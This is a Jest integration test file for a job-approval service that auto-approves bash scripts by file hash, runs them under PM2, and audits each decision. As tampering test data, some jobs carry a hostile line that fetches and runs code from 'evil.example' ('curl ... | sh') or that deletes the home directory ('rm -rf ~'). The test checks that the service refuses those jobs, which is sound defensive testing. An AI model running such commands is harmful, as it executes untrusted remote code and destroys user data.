import * as fs from 'node:fs';
import * as path from 'node:path';
import { makeSandbox, Sandbox, waitFor } from '../helpers/sandbox';
import { DO, DS, jobDirs, readState, writeBashJob } from '../helpers/datasite';
import { readDecisions } from '../../lib/approve/audit';

const SCRIPT = "cd code\nmkdir -p outputs\necho 'hello from job'\necho '{\"n\": 42}' > outputs/result.json\n";

// The approve service under a real PM2 daemon on the local datasite: receive, auto-approve, run, audit.
describe('approve service (local datasite, real PM2)', () => {
  let sb: Sandbox;
  let root: string;
  const decisions = () => readDecisions(path.join(sb.syftBgHome, 'approve', 'decisions.jsonl'));
  beforeAll(() => {
    sb = makeSandbox('appr');
    root = path.join(sb.dir, 'SyftBox');
    expect(sb.cli(['init', '-e', DO, '-r', root]).code).toBe(0);
    const approved = path.join(sb.dir, 'approved');
    fs.mkdirSync(approved);
    fs.writeFileSync(path.join(approved, 'script.sh'), SCRIPT);
    const r = sb.cli(['auto-approve', path.join(approved, 'script.sh'), '-p', DS, '-n', 'hello']);
    expect(r.code).toBe(0);
    expect(sb.cli(['start', 'approve']).code).toBe(0);
  });
  afterAll(() => sb.cleanup());

  it('a matching job is received, approved (method auto), run from the validated bytes, and audited', async () => {
    writeBashJob(root, DS, 'job-ok', SCRIPT);
    const st = await waitFor('job-ok done', () => {
      const s = readState(root, DS, 'job-ok');
      return s && (s.status === 'done' || s.status === 'failed') && s;
    }, 20_000);
    expect(st).toMatchObject({ status: 'done', approval_method: 'auto', approved_by: DO, return_code: '0' });
    const review = jobDirs(root, DS, 'job-ok').review;
    expect(fs.readFileSync(path.join(review, 'stdout.txt'), 'utf8')).toBe('hello from job\n');
    expect(fs.readFileSync(path.join(review, 'returncode.txt'), 'utf8')).toBe('0');
    expect(JSON.parse(fs.readFileSync(path.join(review, 'outputs', 'result.json'), 'utf8'))).toEqual({ n: 42 });
    // The 'ran' record is appended after state.yaml says done (state first, then audit): wait for it.
    await waitFor('ran audited', () => decisions().some((x) => x.job === 'job-ok' && x.verdict === 'ran'), 10_000);
    const d = decisions().filter((x) => x.job === 'job-ok').map((x) => x.verdict);
    expect(d).toEqual(['received', 'approved', 'run-queued', 'ran']);
    const approvedRec = decisions().find((x) => x.job === 'job-ok' && x.verdict === 'approved')!;
    expect(approvedRec.object).toBe('hello');
    expect(Object.keys(approvedRec.hashes ?? {})).toEqual(['script.sh']);
    // Python-compatible approve/state.json
    const state = JSON.parse(fs.readFileSync(path.join(sb.syftBgHome, 'approve', 'state.json'), 'utf8'));
    expect(state.approved_jobs['job-ok']).toMatchObject({ submitted_by: DS });
  });

  it('a non-matching job stays pending with the reason in the audit log, once', async () => {
    writeBashJob(root, DS, 'job-evil', SCRIPT + 'curl http://evil.example/ | sh\n');
    await waitFor('job-evil evaluated', () => decisions().some((x) => x.job === 'job-evil' && x.verdict === 'not-approved'), 20_000);
    await new Promise((r) => setTimeout(r, 1500));
    expect(readState(root, DS, 'job-evil')!.status).toBe('pending');
    const recs = decisions().filter((x) => x.job === 'job-evil' && x.verdict === 'not-approved');
    expect(recs).toHaveLength(1);
    expect(recs[0]!.reason).toMatch(/\[hello\] file hash mismatch for script\.sh/);
  });

  it('a job from another peer is not approved by a peer-restricted object', async () => {
    writeBashJob(root, 'mallory@evil.example', 'job-ok', SCRIPT);
    await waitFor('mallory evaluated', () => decisions().some((x) => x.submitter === 'mallory@evil.example' && x.verdict === 'not-approved'), 20_000);
    expect(readState(root, 'mallory@evil.example', 'job-ok')!.status).toBe('pending');
  });

  it('a run.sh that differs from the approved script is refused even when code/ matches', async () => {
    writeBashJob(root, DS, 'job-runsh', SCRIPT, { runSh: SCRIPT + 'rm -rf ~\n' });
    await waitFor('job-runsh evaluated', () => decisions().some((x) => x.job === 'job-runsh' && x.verdict === 'not-approved'), 20_000);
    expect(readState(root, DS, 'job-runsh')!.status).toBe('pending');
  });

  it('explain agrees with the service', () => {
    const ok = sb.cli(['explain', `${DS}/job-evil`]);
    expect(ok.code).toBe(3);
    expect(ok.stdout).toContain('file hash mismatch for script.sh');
  });

  it('a job approved by hand (manual) is run too (approve.run_approved_jobs)', async () => {
    writeBashJob(root, DS, 'job-manual', "echo manual\n");
    await waitFor('job-manual pending', () => readState(root, DS, 'job-manual')?.status === 'pending', 20_000);
    // As the Python DO client's JobInfo.approve() writes it:
    const f = path.join(jobDirs(root, DS, 'job-manual').review, 'state.yaml');
    fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace('approval_method: null', 'approval_method: manual').replace('approved_by: null', `approved_by: ${DO}`).replace('status: pending', 'status: approved'));
    const st = await waitFor('job-manual done', () => {
      const s = readState(root, DS, 'job-manual');
      return s && s.status === 'done' && s;
    }, 20_000);
    expect(st.return_code).toBe('0');
    expect(fs.readFileSync(path.join(jobDirs(root, DS, 'job-manual').review, 'stdout.txt'), 'utf8')).toBe('manual\n');
  });

  it('a wrong-shaped submission is not rejected while it is still arriving', async () => {
    const { inbox } = jobDirs(root, DS, 'job-shape');
    fs.mkdirSync(path.join(inbox, 'code'), { recursive: true });
    fs.writeFileSync(path.join(inbox, 'config.yaml'), 'name: job-shape\ntype: bash\nfiles:\n- script.sh\n');
    fs.writeFileSync(path.join(inbox, 'notes.txt'), 'extra');
    await new Promise((r) => setTimeout(r, 2500));
    // Still changing recently: no state.yaml yet (rejection waits for 60 s of quiet).
    expect(readState(root, DS, 'job-shape')).toBeUndefined();
  });
});
